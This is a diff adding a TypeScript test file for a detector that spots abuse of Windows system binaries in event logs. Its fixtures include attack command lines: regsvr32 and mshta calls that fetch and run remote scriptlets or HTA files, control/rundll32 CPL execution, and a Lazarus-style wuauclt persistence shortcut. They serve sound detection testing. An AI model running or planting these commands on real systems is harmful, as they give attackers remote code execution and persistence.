@@ -1,0 +1,169 @@
+import { describe, expect, it } from "vitest";
+import { anEvent, aStart, testCatalog } from "../../test/support/events.ts";
+import { fromPlain, toPlain } from "../events/plain.ts";
+import type { Event } from "../model/event.ts";
+import { createDetector } from "./detector.ts";
+
+const S32 = "C:\\Windows\\System32\\";
+
+function find(events: readonly Event[], minLevel: "informational" | "low" | "medium" = "low") {
+  const detector = createDetector({ catalog: testCatalog(), minLevel });
+  return [...events.flatMap((event) => detector.push(event)), ...detector.end()];
+}
+
+describe("one finding for one process start", () => {
+  it("names payload, technique and source", () => {
+    const start = aStart(0, "A", `${S32}regsvr32.exe`, "regsvr32 /s /i:http://files.example.net/a.sct scrobj.dll");
+    const [finding, ...rest] = find([start]);
+    expect(rest).toEqual([]);
+    expect(finding).toMatchObject({
+      schema: "whatran/finding/1",
+      time: "2024-05-02T09:00:00.000Z",
+      host: "PC1",
+      binary: { name: "regsvr32.exe" },
+      behaviour: "windows/regsvr32/scriptlet",
+      techniques: ["T1218.010"],
+      runs: [{ what: "scriptlet", where: "web", value: "http://files.example.net/a.sct", remote: true }],
+      source: { file: "log.evtx", index: start.record.index },
+    });
+    expect(["high", "critical"]).toContain(finding?.level);
+  });
+
+  it("keeps its id wherever the file lies, and does not give it to another process", () => {
+    const line = "regsvr32 /s /i:http://files.example.net/a.sct scrobj.dll";
+    const a = aStart(0, "A", `${S32}regsvr32.exe`, line);
+    const plain = toPlain(a);
+    const moved = fromPlain({ ...plain, record: { ...plain.record, file: "/elsewhere/log.evtx" } });
+    const b = aStart(0, "B", `${S32}regsvr32.exe`, line);
+    expect(find([a])[0]?.id).toBe(find([moved])[0]?.id);
+    expect(find([a])[0]?.id).not.toBe(find([b])[0]?.id);
+  });
+
+  it("is silent about a log without arguments", () => {
+    expect(
+      find([
+        anEvent("processCreation", 0, {
+          image: `${S32}rundll32.exe`,
+          process: { pid: 4, image: `${S32}rundll32.exe` },
+        }),
+      ]),
+    ).toEqual([]);
+  });
+
+  it("takes the same start from a second source as the same", () => {
+    const image = `${S32}regsvr32.exe`;
+    const line = "regsvr32 /s C:\\ProgramData\\a.dll";
+    const sysmon = aStart(0, "A", image, line);
+    const security = anEvent(
+      "processCreation",
+      0.4,
+      { image, commandLine: line, process: { pid: 65, image }, parent: { pid: 1 } },
+      { provider: "Microsoft-Windows-Security-Auditing", eventId: 4688 },
+    );
+    const findings = find([sysmon, security]);
+    expect(findings).toHaveLength(1);
+    expect(findings[0]?.related).toEqual([expect.objectContaining({ index: security.record.index, role: "same" })]);
+  });
+});
+
+describe("lineage", () => {
+  it("gives the finding of a wrapper to the child that is logged too", () => {
+    const outer = aStart(0, "A", `${S32}cmd.exe`, "cmd /c regsvr32 /s C:\\ProgramData\\a.dll");
+    const inner = aStart(1, "B", `${S32}regsvr32.exe`, "regsvr32 /s C:\\ProgramData\\a.dll", "A");
+    const findings = find([outer, inner]);
+    expect(findings).toHaveLength(1);
+    expect(findings[0]?.source.index).toBe(inner.record.index);
+    expect(findings[0]?.related).toEqual([expect.objectContaining({ index: outer.record.index, role: "wrapper" })]);
+  });
+
+  it("reports the wrapper itself where the child is not logged", () => {
+    const [finding] = find([aStart(0, "A", `${S32}cmd.exe`, "cmd /c regsvr32 /s C:\\ProgramData\\a.dll")]);
+    expect(finding?.behaviour).toBe("windows/regsvr32/register");
+    expect(finding?.binary.name).toBe("regsvr32.exe");
+  });
+
+  it("joins control, rundll32 and its twin to one act", () => {
+    const cpl = "C:\\Users\\a\\Downloads\\t.cpl";
+    const first = aStart(0, "A", `${S32}control.exe`, `control "${cpl}",`);
+    const second = aStart(1, "B", `${S32}rundll32.exe`, `rundll32 Shell32.dll,Control_RunDLL "${cpl}",`, "A");
+    const third = aStart(
+      2,
+      "C",
+      "C:\\Windows\\SysWOW64\\rundll32.exe",
+      `rundll32 "C:\\Windows\\SysWOW64\\shell32.dll",#44 "${cpl}",`,
+      "B",
+    );
+    const findings = find([first, second, third]);
+    expect(findings).toHaveLength(1);
+    expect(findings[0]?.source.index).toBe(first.record.index);
+    expect(findings[0]?.related.map(({ index, role }) => [index, role])).toEqual([
+      [second.record.index, "step"],
+      [third.record.index, "step"],
+    ]);
+  });
+
+  it("judges a parent that is not in the log by what its child's event says", () => {
+    const child = aStart(0, "B", `${S32}cmd.exe`, "cmd.exe", "A", {
+      parent: { key: "id:A", image: `${S32}mshta.exe` },
+      parentCommandLine: "mshta http://203.0.113.5/x.hta",
+    });
+    const [finding] = find([child], "medium");
+    expect(finding).toMatchObject({
+      behaviour: "windows/mshta/remote-application",
+      source: { index: child.record.index },
+    });
+  });
+});
+
+describe("corroboration", () => {
+  const dll = "C:\\ProgramData\\a.dll";
+  const start = () => aStart(10, "A", `${S32}regsvr32.exe`, `regsvr32 /s ${dll}`);
+  const process = { key: "id:A", image: `${S32}regsvr32.exe` };
+  const ids = (events: readonly Event[]) => find(events)[0]?.evidence.map(({ id }) => id);
+
+  it("sees the payload loaded, and that it is not signed", () => {
+    const load = (signed: boolean) =>
+      anEvent("moduleLoad", 11, {
+        process,
+        module: dll,
+        signature: { signed, status: signed ? "Valid" : "Unavailable" },
+      });
+    expect(ids([start(), load(false)])).toContain("payload-loaded-unsigned");
+    expect(ids([start(), load(true)])).toContain("payload-loaded");
+    const other = anEvent("moduleLoad", 11, { process, module: `${S32}kernel32.dll` });
+    expect(ids([start(), other])?.filter((id) => id.startsWith("payload-"))).toEqual([]);
+  });
+
+  it("sees who dropped the payload shortly before", () => {
+    const drop = (at: number) =>
+      anEvent("fileCreation", at, {
+        path: dll,
+        action: "create",
+        process: { key: "id:W", image: "C:\\Office\\winword.exe" },
+      });
+    expect(ids([drop(-30), start()])).toContain("payload-dropped");
+    expect(ids([drop(-4000), start()])).not.toContain("payload-dropped");
+  });
+
+  it("sees connections to the outside only", () => {
+    const to = (destinationIp: string) => anEvent("networkConnection", 12, { process, initiated: true, destinationIp });
+    expect(ids([start(), to("203.0.113.9")])).toContain("external-connection");
+    expect(ids([start(), to("10.1.2.3")])).not.toContain("external-connection");
+  });
+});
+
+it("finds the Lazarus Group's shortcut: wuauclt with a library, in a Startup folder", () => {
+  const path =
+    "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\WindowsUpdateConf.lnk";
+  const shortcut = anEvent("shortcut", 0, {
+    path,
+    target: `${S32}wuauclt.exe`,
+    arguments: "/UpdateDeploymentProvider C:\\Wíndows\\system32\\wuaueng.dll /RunHandlerComServer",
+    startup: true,
+    oddities: [],
+  });
+  const [finding] = find([shortcut]);
+  expect(finding).toMatchObject({ behaviour: "windows/wuauclt/load-library", dataComponents: ["File Metadata"] });
+  expect(finding?.evidence.map(({ id }) => id)).toContain("persistence");
+  expect(["high", "critical"]).toContain(finding?.level);
+});
